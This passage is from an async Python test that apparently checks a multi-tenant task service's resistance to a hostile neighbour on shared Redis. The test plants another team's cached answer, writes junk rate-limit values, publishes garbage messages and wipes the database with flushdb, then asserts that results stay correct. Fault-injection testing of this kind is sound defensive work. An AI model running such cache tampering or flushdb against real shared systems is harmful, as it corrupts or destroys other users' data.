        beta = (await shared.row("SELECT id FROM teams WHERE slug = 'beta'"))["id"]
        theirs = await neighbour.get(f"dashgate:status:{beta}:{other}")
        assert theirs is not None
        await neighbour.set(f"dashgate:status:{team}:{task_id}", theirs)  # another team's own answer
        answer = await shared.http.get(f"/api/v1/tasks/{task_id}", headers=shared.headers())
        assert answer.json()["output"]["task_id"] == task_id
        for value in ("nonsense", "1e300", "-1", "nan"):
            await neighbour.set(f"dashgate:rate:team:{team}", value)
            answer = await shared.post(shared.order())
            assert answer.status_code in (200, 429), value
        await neighbour.delete(f"dashgate:rate:team:{team}")
        await neighbour.lpush(f"dashgate:rate:team:{team}", "a list")  # type: ignore[misc]  # redis-py's own types
        assert (await shared.post(shared.order())).status_code == 200
        for channel in ("dashgate:wake:submit", "dashgate:wake:account", "dashgate:changes"):
            await neighbour.publish(channel, b"\xff\x00 nonsense")
        assert (await shared.http.get("/v1/usage", headers=shared.headers("beta"))).json()["lines"] == []
        await neighbour.flushdb()
    assert await shared.finish(task_id) == "SUCCEEDED"
    assert (await shared.row("SELECT quantity FROM ledger_entries WHERE task_id = $1::uuid", task_id))["quantity"] == 1
